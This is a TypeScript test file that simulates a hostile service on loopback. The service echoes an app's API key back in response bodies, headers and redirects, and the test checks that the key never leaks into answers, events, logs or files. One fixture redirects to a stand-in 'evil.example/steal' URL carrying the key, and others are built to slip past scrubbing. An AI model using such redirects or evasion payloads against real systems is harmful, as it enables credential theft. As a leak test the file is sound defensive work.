import { randomUUID } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inspect } from 'node:util';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { webPaths, type OperationName } from '../../../shared/contract';
import { createCore, type Core } from '../../../electron/core/core';
import { InMemorySecretStore } from '../../helpers/in-memory-secret-store';
import { startWebServer, type WebServer } from '../../../electron/web/server';
import { rawRequest } from '../../helpers/raw-http';

// A hostile (or careless) service that echoes the caller's key back wherever it can: in a success
// body's fields, in error bodies (whole, percent-encoded, cut at the edge of the studio's limit), in
// headers and in the Location of a redirect. The key must reach no contract answer, event, log
// line or file, whichever of these it chooses. Everything is real: the service is an HTTP server
// on loopback, the studio its core behind web mode.
const key = `Kx9+Qw/Ez7=Rt2+Pm5/${randomUUID()}`;
let mode: (req: IncomingMessage, res: ServerResponse, sentKey: string) => void = () => undefined;
let service: Server;
let serviceUrl: string;
let dir: string;
let core: Core;
let web: WebServer;
const captured: string[] = [];

const sendJson = (res: ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}) =>
  res.writeHead(status, { 'content-type': 'application/json', ...headers }).end(JSON.stringify(body));

beforeAll(async () => {
  service = createServer((req, res) => {
    const sentKey = /^Token (.+)$/.exec(req.headers.authorization ?? '')?.[1] ?? '';
    req.resume();
    req.on('end', () => mode(req, res, sentKey));
  });
  await new Promise<void>((resolve) => service.listen(0, '127.0.0.1', resolve));
  serviceUrl = `http://127.0.0.1:${(service.address() as AddressInfo).port}`;
  dir = mkdtempSync(join(tmpdir(), 'sawt-key-echo-'));
  core = await createCore({ dataDir: join(dir, 'data'), version: 'test', secrets: new InMemorySecretStore() });
  core.events.subscribe((name, payload) => void captured.push(name, JSON.stringify(payload)));
  web = await startWebServer({ handlers: core.handlers, events: core.events, audio: core.audio, rendererDir: dir });
  await call('settings.update', { serviceBaseUrl: { kind: 'custom', url: serviceUrl } });
  expect(await call('secrets.setApiKey', { apiKey: key })).toMatchObject({ ok: true });
});
afterAll(async () => {
  await web.close();
  await core.close();
  await new Promise((resolve) => service.close(resolve));
  rmSync(dir, { recursive: true, force: true });
});
beforeEach(() => {
  for (const method of ['log', 'info', 'warn', 'error', 'debug'] as const) {
    vi.spyOn(console, method).mockImplementation((...args: unknown[]) => {
      captured.push(args.map((arg) => (typeof arg === 'string' ? arg : inspect(arg, { depth: 8 }))).join(' '));
    });
  }
});
afterEach(() => vi.restoreAllMocks());

async function call(name: OperationName, input: unknown): Promise<unknown> {
  const response = await rawRequest({
    host: web.host,
    port: web.port,
    path: `${webPaths.ops}${name}`,
    method: 'POST',
    headers: { authorization: `Bearer ${web.token}`, 'content-type': 'application/json' },
    body: JSON.stringify(input),
  });
  captured.push(JSON.stringify(response.headers), response.body);
  return JSON.parse(response.body) as unknown;
}

/** Any run of 8 characters of the key, in any letter case, also percent-encoded: what scrubbing promises to remove. */
function leaksOf(texts: string[]): string[] {
  const pieces = new Set<string>();
  for (const form of [key, encodeURIComponent(key)].map((k) => k.toLowerCase()))
    for (let at = 0; at + 8 <= form.length; at++) pieces.add(form.slice(at, at + 8));
  return texts.filter((text) => [...pieces].some((piece) => text.toLowerCase().includes(piece)));
}

function filesUnder(root: string): string[] {
  return readdirSync(root, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile())
    .map((entry) => readFileSync(join(entry.parentPath, entry.name), 'latin1'));
}

describe('a service that echoes the key', () => {
  it.each([
    [
      'in a success body (the project name)',
      (res: ServerResponse, sent: string) => sendJson(res, 200, { success: true, data: { id: randomUUID(), name: `Project of ${sent}` } }),
    ],
    [
      'percent-encoded in an error message',
      (res: ServerResponse, sent: string) =>
        sendJson(res, 403, { code: 403, message: `Key not allowed, see https://keys.example/?k=${encodeURIComponent(sent)}` }),
    ],
    [
      'after letters that lower-case to two characters (İ), to push the hidden range off the key',
      (res: ServerResponse, sent: string) =>
        sendJson(res, 403, { code: 403, message: `${'İ'.repeat(60)} refused key ${sent} ${'.'.repeat(120)}` }),
    ],
    [
      'in an error body with a 2xx status, right at the message limit',
      (res: ServerResponse, sent: string) => sendJson(res, 200, { code: 403, message: `${'x'.repeat(291)}${sent}` }),
    ],
    [
      'in the headers of an error',
      (res: ServerResponse, sent: string) =>
        sendJson(res, 401, { code: 401, message: 'Unauthorized' }, { 'www-authenticate': `Token key="${sent}"`, 'x-echo': sent }),
    ],
    [
      'in a redirect Location',
      (res: ServerResponse, sent: string) =>
        res.writeHead(307, { location: `https://evil.example/steal?key=${encodeURIComponent(sent)}` }).end(),
    ],
  ])('%s: the key reaches no answer, event, log line or file', async (_name, answer) => {
    mode = (_req, res, sent) => answer(res, sent);
    await call('account.testConnection', {});
    await call('voices.list', {});
    await call('history.sync', {});
    const leaks = leaksOf([...captured, ...filesUnder(join(dir, 'data'))]);
    captured.length = 0;
    expect(leaks).toEqual([]);
  });
});
